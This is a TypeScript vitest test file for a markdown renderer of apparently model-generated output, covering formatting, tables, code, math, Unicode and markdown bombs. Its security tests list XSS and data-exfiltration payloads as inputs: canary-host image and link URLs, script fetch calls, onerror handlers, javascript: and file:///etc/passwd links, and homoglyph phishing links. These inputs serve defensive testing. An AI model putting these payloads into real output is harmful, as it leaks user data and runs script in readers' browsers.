import { describe, expect, it } from 'vitest';
import { blockNode } from './block.tsx';
import { EMPTY_DOCUMENT, readDocument } from './blocks.ts';
import { MAX_DEPTH, MAX_MARKDOWN_CHARACTERS } from './limits.ts';
import { draw } from './vnode.kit.ts';

function render(markdown: string) {
  const { settled, open } = readDocument(EMPTY_DOCUMENT, markdown);
  return draw([...settled, ...open].map(blockNode));
}

function tags(markdown: string): readonly string[] {
  return render(markdown).elements.map(({ tag }) => tag);
}

describe('what markdown becomes', () => {
  it.each([
    ['plain', ['p'], 'plain'],
    ['**b** *i* ~~d~~ `c`', ['p', 'strong', 'em', 'del', 'code'], 'b i d c'],
    ['# One\n\n###### Six', ['h3', 'h6'], 'OneSix'],
    ['- a\n- b', ['ul', 'li', 'li'], 'ab'],
    ['> q', ['blockquote', 'p'], 'q'],
    ['a\n\n---\n\nb', ['p', 'hr', 'p'], 'ab'],
    ['a  \nb', ['p', 'br'], 'ab'],
  ])('%s', (markdown, expected, text) => {
    expect(tags(markdown)).toEqual(expected);
    expect(render(markdown).text).toBe(text);
  });

  it('keeps the first number of a list', () => {
    expect(render('3. c\n4. d').elements[0]).toMatchObject({ tag: 'ol', props: { start: 3 } });
  });

  it('shows tasks as signs', () => expect(render('- [x] done\n- [ ] open').text).toBe('☑ done☐ open'));

  it('makes tables with header cells and alignment', () => {
    const { elements, text } = render('| a | b |\n|:--|--:|\n| 1 | 2 |');
    expect(elements.map(({ tag }) => tag)).toEqual([
      'section',
      'table',
      'thead',
      'tr',
      'th',
      'th',
      'tbody',
      'tr',
      'td',
      'td',
    ]);
    expect(elements[5]?.props).toEqual({ scope: 'col', class: 'align-right' });
    expect(text).toBe('ab12');
  });

  it('keeps code as it was written, with its language', () => {
    const { elements, text } = render('```js\nif (a < b && "c") {}\n```');
    expect(elements.map(({ tag }) => tag)).toEqual(['figure', 'figcaption', 'span', 'CopyButton', 'pre', 'code']);
    expect(elements[3]?.props['text']).toBe('if (a < b && "c") {}');
    expect(text).toBe('jsif (a < b && "c") {}');
  });

  it('keeps entities in code and resolves them in text', () => {
    expect(render('a &lt; b &amp;&amp; c &#39;d&#x27;').text).toBe("a < b && c 'd'");
    expect(render('`&lt;`').text).toBe('&lt;');
    expect(render('AT&T &unknown; &#0; &#xD800;').text).toBe('AT&T &unknown; &#0; &#xD800;');
  });

  it('shows a fence that is not closed yet as code', () => {
    expect(tags('```py\nprint(1)')).toContain('pre');
  });
});

/** Attributes by which an element could load, navigate, submit or run something. */
const ACTIVE = /^(href|src|srcset|poster|action|formAction|data|style|dangerouslySetInnerHTML|on.+)$/i;
const HARMLESS_TAGS = new Set(
  'button p strong em del code span bdi br h3 h4 h5 h6 ul ol li blockquote hr figure figcaption pre section table thead tbody tr th td CopyButton'.split(
    ' ',
  ),
);

describe('output of a model is data', () => {
  const secret = 'https://canary.example/?d=secret';
  const attacks = [
    `![x](${secret})`,
    `![x][ref]\n\n[ref]: ${secret}`,
    `[x][ref]\n\n[ref]: ${secret} "title"`,
    `<${secret}>`,
    secret,
    `<img src="${secret}">`,
    `<svg><image href="${secret}"/></svg>`,
    `<video poster="${secret}" src="${secret}"></video>`,
    `<img srcset="${secret} 2x">`,
    `<style>body{background:url(${secret})}</style>`,
    `<link rel=prefetch href="${secret}"><link rel=dns-prefetch href="//canary.example">`,
    `<meta http-equiv=refresh content="0;url=${secret}">`,
    `<form action="${secret}"><input name=a></form>`,
    `<script type=speculationrules>{"prefetch":[{"urls":["${secret}"]}]}</script>`,
    `<script>fetch("${secret}")</script>`,
    `<iframe src="${secret}"></iframe>`,
    `a <b onclick="fetch('${secret}')">b</b> c`,
    `| a |\n|---|\n| ![x](${secret}) <img src=x onerror=alert(1)> |`,
    `> - <object data="${secret}"></object>`,
    `# <a href="${secret}">x</a>`,
    '[x](javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](blob:https://a/b)',
    '[x](file:///etc/passwd)',
    '<javascript:alert(1)>',
    '[x](vbscript:a "onload=alert(1)")',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
  ];

  it.each(attacks)('%s', (markdown) => {
    for (const { tag, props } of render(markdown).elements) {
      expect(HARMLESS_TAGS, tag).toContain(tag);
      // A button's handler is this page's own, and only shows the address.
      if (tag === 'button') expect({ ...props, onClick: 0 }).toEqual({ type: 'button', class: 'link', onClick: 0 });
      else for (const name of Object.keys(props)) expect(name, `<${tag} ${name}>`).not.toMatch(ACTIVE);
    }
  });

  it('shows HTML as its source', () => {
    expect(render('a <img src="x"> b').text).toBe('a <img src="x"> b');
    expect(render('<div>\nx\n</div>').text).toBe('<div>\nx\n</div>');
    expect(render('<!-- hidden -->').text).toBe('<!-- hidden -->');
  });

  it('says where an image or a link would have led', () => {
    expect(render(`![chart](${secret})`).text).toBe(`Image, not loaded: chart (${secret})`);
    expect(render(`[the bank](${secret})`).text).toBe(`the bank (${secret})`);
    expect(render(`<${secret}>`).text).toBe(secret);
  });

  it('shows the real host', () => {
    // A Cyrillic "а" in "pаypal", and a name before an @.
    expect(render('[paypal](https://pаypal.com/)').text).toContain('xn--');
    expect(render('[x](https://bank.example@evil.example/)').text).toContain('@evil.example/');
  });

  it('does not hide link definitions', () => {
    expect(render(`text\n\n[ref]: ${secret}`).text).toContain(secret);
  });
});

describe('markdown bombs stay small', () => {
  const many = 100_000;
  const bombs: Record<string, string> = {
    quotes: '>'.repeat(many),
    'spaced quotes': '> '.repeat(many / 4),
    brackets: '['.repeat(many),
    'open links': '[a]('.repeat(many / 10),
    emphasis: '*a **b '.repeat(many / 10),
    underscores: `${'_'.repeat(many / 4)}a`,
    backticks: '`'.repeat(many / 4),
    'angle brackets': '<a '.repeat(many / 10),
    'list in list in line': '- '.repeat(many / 4),
    'indented lists': Array.from({ length: 200 }, (_, level) => `${' '.repeat(level * 2)}- a`).join('\n'),
    'quotes and lists': Array.from({ length: 300 }, (_, level) => `${'> - '.repeat(level % 60)}a`).join('\n'),
    'long line': 'a'.repeat(10_000_000),
    'wide table': `${'|a'.repeat(5000)}|\n${'|-'.repeat(5000)}|\n${'|b'.repeat(5000)}|`,
    'many paragraphs': 'a\n\n'.repeat(many / 2),
    entities: '&lt;'.repeat(many / 10),
  };

  it.each(Object.entries(bombs))('%s', (_name, bomb) => {
    const { elements, text } = render(bomb);
    expect(Math.max(...elements.map(({ depth }) => depth))).toBeLessThanOrEqual(MAX_DEPTH + 4);
    expect(elements.length).toBeLessThanOrEqual(bomb.length);
    expect(text.length).toBeGreaterThan(0);
  });

  it('shows what is too long complete and as it is', () => {
    const long = '**a** '.repeat(MAX_MARKDOWN_CHARACTERS / 5);
    expect(render(long)).toMatchObject({ text: long, elements: [{ tag: 'p' }] });
  });

  it('reads honest long code with many marks as code', () => {
    expect(tags(`\`\`\`js\n${'a[i] = *b_c; // <x>\n'.repeat(500)}\`\`\``)).toContain('pre');
  });
});

describe('a link', () => {
  const buttons = (markdown: string) => render(markdown).elements.filter(({ tag }) => tag === 'button');

  it.each(['[a](https://example.com/x)', 'https://example.com/x', '[m](mailto:a@example.com)'])(
    '%s can be pressed, and only asks',
    (markdown) => expect(buttons(markdown)).toHaveLength(1),
  );

  it.each([
    '[x](javascript:alert(1))',
    '[x](data:text/html,<b>)',
    '[x](blob:https://example.com/1)',
    '[x](file:///etc/passwd)',
    '[x](https://bank.example@evil.example/)',
    '[x](https://pаypal.com/)',
    '[x](/relative)',
    '[x](#id)',
  ])('%s is text only', (markdown) => expect(buttons(markdown)).toEqual([]));
});

describe('what cannot be seen', () => {
  it.each([
    ['tags', 'hi\u{e0068}\u{e0069}', 'hiU+E0068U+E0069'],
    ['zero-width spaces', 'a\u200bb\u2060c', 'aU+200BbU+2060c'],
    ['turned direction', 'a\u202ecod', 'aU+202Ecod'],
    ['a joiner between Latin letters', 'a\u200db', 'aU+200Db'],
    ['a soft hyphen in code', '`a\u00adb`', 'aU+00ADb'],
    ['selectors as an alphabet', 'x\u{e0101}\u{e0102}', 'xU+E0101U+E0102'],
  ])('%s: is shown', (_what, markdown, text) => expect(render(markdown).text).toBe(text));

  it.each([
    ['a family', '👨‍👩‍👧'],
    ['a flag made of tags', '🏴󠁧󠁢󠁥󠁮󠁧󠁿'],
    ['Persian', 'می\u200cخواهم'],
    ['Hindi', 'क्\u200dष'],
    ['a chosen ideograph', '葛\u{e0100}'],
    ['a heart', '❤\ufe0f'],
  ])('%s: stays as it is', (_what, text) => expect(render(text).text).toBe(text));
});

describe('formulas', () => {
  it.each([
    ['$x^2$', 'x^2'],
    ['so \\(a\\) and $$b$$', 'so a and b'],
    ['$$\n\\frac{1}{2}\n$$', '\\frac{1}{2}'],
    ['\\[\nE = mc^2\n\\]', 'E = mc^2'],
    ['It costs $5 and $6 today', 'It costs $5 and $6 today'],
    ['`$x$`', '$x$'],
  ])('%s', (markdown, text) => expect(render(markdown).text).toBe(text));

  it('become MathML that loads and links nothing', async () => {
    const { mathTree } = await import('./math-tree.ts');
    const tree = (tex: string) => draw(mathTree(tex, true));
    expect(tree('\\frac{a}{b}').elements.map(({ tag }) => tag)).toEqual(['math', 'mfrac', 'mi', 'mi']);
    for (const tex of [
      '\\href{https://canary.example}{x}',
      '\\includegraphics{https://canary.example/x.png}',
      '\\class{a}{x}',
    ]) {
      for (const { tag, props } of tree(tex).elements) {
        expect(tag).toMatch(/^m/);
        expect(JSON.stringify(props)).not.toContain('canary');
      }
    }
    expect(mathTree('\\frac{a}', true)).toBeNull();
    expect(mathTree(`${'{'.repeat(5000)}x`, true)).toBeNull();
  });
});

it('code is coloured in known languages and nothing but spans comes of it', async () => {
  const { highlightCode } = await import('./highlight-code.ts');
  const { elements, text } = draw(highlightCode('const a = "<b>";', 'js'));
  expect(text).toBe('const a = "<b>";');
  expect(new Set(elements.map(({ tag }) => tag))).toEqual(new Set(['span']));
  expect(highlightCode('x', 'no-such-language')).toBeNull();
});

describe('numbers in square brackets', () => {
  const numbersOf = (markdown: string) =>
    render(markdown)
      .elements.filter(({ tag }) => tag === 'Reference')
      .map(({ props }) => props['numbers']);

  it('lead to passages, alone, in lists, in tables and in bold words', () => {
    expect(numbersOf('So it is [1][2]. **Or [3, 4]**\n\n- yes [5]\n\n| a [6] |\n|---|\n| b [7] |')).toEqual([
      [1],
      [2],
      [3, 4],
      [5],
      [6],
      [7],
    ]);
    expect(render('So it is [1].').text).toBe('So it is [1].');
  });

  it('are nothing special in code, as links, or where they are no small numbers', () => {
    expect(numbersOf('`a[1]` [x] [123] [-1]\n\n```\na[1]\n```\n\n[1](https://example.org)')).toEqual([]);
  });
});
